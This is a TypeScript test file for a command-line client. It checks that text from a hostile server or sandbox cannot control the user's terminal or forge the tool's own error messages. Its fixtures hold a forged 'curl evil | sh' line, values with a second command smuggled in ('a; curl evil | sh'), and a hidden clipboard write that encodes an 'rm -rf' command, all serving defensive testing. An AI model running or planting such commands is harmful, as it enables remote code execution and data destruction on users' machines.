/** Output of a hostile server or sandbox does not act on the user's terminal. */
import { text } from "node:stream/consumers";
import { expect, onTestFinished, test, vi } from "vitest";
import { connect } from "../../client/index.ts";
import { note, printOutput } from "../../cli/print.ts";
import { runCLI, runHere } from "../setup/cli.ts";
import { serve } from "../setup/serve.ts";

/** Clears the screen, writes the clipboard, hides and reverses the text after it, and begins a forged line. */
const HOSTILE =
  "x\u001b[2J\u001b]52;c;cm0gLXJm\u0007\u001b[8m\u009b2J\u202e\u200b\u2028\r\nError: run curl evil | sh\u0000";
const ID = "default.01m7w0hhyrgqc3dhwv4sybnbvc";

/** A run with valid values in the fields that the commands evaluate, and hostile texts in all others. */
const RUN = {
  id: HOSTILE,
  state: HOSTILE,
  kind: HOSTILE,
  title: HOSTILE,
  started_at: HOSTILE,
  duration_ms: 5,
  exit_code: 3,
  notice: HOSTILE,
  next: HOSTILE,
};
const DATA = {
  ...RUN,
  stdout: "printed\n",
  stderr: "",
  left_out: HOSTILE,
  log: [],
  next_cursor: 0,
  log_bytes: 0,
  runs: [RUN],
  sandboxes: [{ name: HOSTILE, state: HOSTILE, last_used_at: HOSTILE, saved_at: HOSTILE }],
  max_sandboxes: 1,
  agent: undefined as string | undefined,
};
const TASK = {
  ...DATA,
  agent: "claude-code",
  note: HOSTILE,
  files: [{ path: HOSTILE, change: HOSTILE, size: 1 }],
  next: HOSTILE,
};

let answer: (tool: string) => object = () => ({});
/** A listing of a directory. */
const LISTING = {
  entries: [{ path: HOSTILE, type: HOSTILE, size: 1, modified: HOSTILE }],
  more: true,
};
let listing: () => object = () => LISTING;
let failsWith: { status: number; body: string } | undefined;
let refusesResults = false;
/** The protocol version in the response to `initialize`; undefined for the client's. */
let version: string | undefined;
/** The event stream of `ask`. */
let events: string | undefined;

const url = await serve(async (request, response) => {
  const body = await text(request);
  if (failsWith) return void response.writeHead(failsWith.status).end(failsWith.body);
  const { pathname } = new URL(request.url ?? "", "http://any");
  if (pathname === "/execute" && events !== undefined) {
    response.setHeader("content-type", "text/event-stream");
    return void response.end(events);
  }
  if (pathname !== "/mcp")
    return void response.end(JSON.stringify({ path: HOSTILE, size: 1, sha256: HOSTILE, ...listing() }));
  if (request.method !== "POST") return void response.writeHead(405).end();
  const { id, method, params } = JSON.parse(body);
  if (id === undefined) return void response.writeHead(202).end();
  if (refusesResults && params.name === "get_result")
    return void response.writeHead(429, { "retry-after": "999" }).end();
  const result =
    method === "initialize"
      ? {
          protocolVersion: version ?? params.protocolVersion,
          capabilities: { tools: {} },
          serverInfo: { name: HOSTILE, version: HOSTILE },
        }
      : method === "tools/call"
        ? answer(params.name)
        : { tools: [] };
  response.setHeader("content-type", "application/json");
  response.end(JSON.stringify({ jsonrpc: "2.0", id, result }));
}, "/mcp");
const options = ["--url", url, "--token", "any"];

/** The sequences of this program: colours, and the screen of `watch`. */
// oxlint-disable-next-line no-control-regex
const OWN = /\u001b\[(?:(?:[12]|22|3[1-39])m|\?(?:1049|25)[hl]|[HJK])/g;

const ACTS = /[\p{Cf}\p{Zl}\p{Zp}]|(?!\t)\p{Cc}/u;

/**
 * Finds lines of a command's output that could control a terminal or imitate the command's own errors. With --json,
 * finds output that is not JSON.
 */
async function faultsOf(words: readonly string[]): Promise<string[]> {
  const { stdout, stderr } = await runHere([...words, ...options]);
  expect(stdout + stderr).not.toBe("");
  const lines = (stdout + stderr).replaceAll(OWN, "").split("\n");
  const faults = lines.filter((line) => ACTS.test(line) || line.startsWith("Error: run curl"));
  if (words.includes("--json"))
    try {
      JSON.parse(stdout.trim().split("\n").at(-1) ?? "");
    } catch {
      faults.push(stdout);
    }
  return faults;
}

const COMMANDS = [
  ["command", "true"],
  ["code", "1"],
  ["runs"],
  ["sandboxes"],
  ["result", ID],
  ["cancel", ID],
  ["execute", "do it"],
  ["execute", "--detach", "do it"],
  ["ask", "what"],
  ["files", "ls"],
  ["files", "put", "package.json"],
  ["watch", "--for", "1"],
  ["verify"],
];

test.each(COMMANDS)("%s %s prints what a hostile server sends without acting on it", async (...words) => {
  failsWith = undefined;
  for (const data of [DATA, TASK])
    for (const more of [[], ["--json"]]) {
      answer = () => ({ content: [{ type: "text", text: HOSTILE }], structuredContent: data });
      expect(await faultsOf([...words, ...more])).toEqual([]);
    }
});

test.each(COMMANDS)("%s %s does the same on a terminal", async (...words) => {
  const data = { ...DATA, runs: [{ ...RUN, state: "running" }] };
  answer = () => ({ content: [], structuredContent: data });
  const { isTTY } = process.stdout;
  process.stdout.isTTY = true;
  try {
    expect(await faultsOf(words)).toEqual([]);
  } finally {
    process.stdout.isTTY = isTTY;
  }
});

test.each(COMMANDS)("%s %s prints a hostile server's error without acting on it", async (...words) => {
  answer = () => ({ content: [{ type: "text", text: HOSTILE }], isError: true });
  expect(await faultsOf(words)).toEqual([]);
  for (const status of [400, 401, 403, 404, 500]) {
    failsWith = { status, body: JSON.stringify({ error: HOSTILE, message: HOSTILE, problems: [HOSTILE] }) };
    expect(await faultsOf(words)).toEqual([]);
    failsWith = { status, body: HOSTILE };
    expect(await faultsOf([...words, "--json"])).toEqual([]);
  }
  failsWith = undefined;
});

test("a protocol version of a hostile server is printed on one line", async () => {
  version = HOSTILE;
  onTestFinished(() => void (version = undefined));
  expect(await faultsOf(["runs"])).toEqual([]);
});

test("the id of a run that can no longer be followed is printed on one line", async () => {
  const data = { ...DATA, id: HOSTILE, state: "running" };
  answer = () => ({ content: [], structuredContent: data });
  refusesResults = true;
  onTestFinished(() => void (refusesResults = false));
  expect(await faultsOf(["command", "true"])).toEqual([]);
});

test("ask prints the error event of a hostile server on one line", async () => {
  const error = JSON.stringify({ error: HOSTILE });
  events = `event: task\ndata: {"taskId":"${ID}"}\n\nevent: error\ndata: ${error}\n\n`;
  expect(await faultsOf(["ask", "what"])).toEqual([]);
  events = undefined;
});

test("stdio prints a hostile server's error to standard error without acting on it", async () => {
  failsWith = { status: 400, body: JSON.stringify({ error: HOSTILE }) };
  const message = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
  const { stderr } = await runCLI(["stdio", ...options], {}, `${message}\n`);
  failsWith = undefined;
  expect(stderr).toContain("curl evil");
  expect(stderr.split("\n").filter((line) => ACTS.test(line) || line.startsWith("Error:"))).toEqual([]);
});

test.each([
  ["runs", { runs: [RUN], next_cursor: "a; curl evil | sh" }],
  ["result", { ...TASK, id: "a; curl evil | sh" }],
])("the command that %s prints quotes what a hostile server has sent", async (name, data) => {
  answer = () => ({ content: [], structuredContent: data });
  const { stderr } = await runHere([name, ...(name === "result" ? [ID] : []), ...options]);
  expect(stderr).toContain(" 'a; curl evil | sh'");
});

test("a listing ends at a page without entries, even if the page has a cursor", async () => {
  let pages = 0;
  listing = () => (++pages > 3 ? LISTING : { entries: [], more: true, next_cursor: "again" });
  const { code, stdout } = await runHere(["files", "ls", "--json", ...options]);
  expect({ code, pages, ...JSON.parse(stdout) }).toMatchObject({ code: 0, pages: 1, entries: [] });
  pages = 0;
  const library = connect({ url, token: "any" });
  expect(await library.sandbox().files.list()).toEqual([]);
  expect(pages).toBe(1);
  await library.close();
  listing = () => LISTING;
});

test("a notice after output on a terminal is not hidden by the output's colors", () => {
  const written: string[] = [];
  const terminal = { isTTY: true, write: (printed: string) => written.push(printed) };
  const spy = vi.spyOn(process.stderr, "write").mockImplementation((printed) => {
    written.push(String(printed));
    return true;
  });
  onTestFinished(() => spy.mockRestore());
  printOutput(terminal as unknown as NodeJS.WriteStream, "\u001b[8mhidden\n");
  note("Files were lost.");
  note("Files were restored.");
  expect(written).toEqual([
    "\u001b[8mhidden\n",
    "\u001b[0m",
    expect.stringContaining("Files were lost."),
    expect.stringContaining("Files were restored."),
  ]);
});
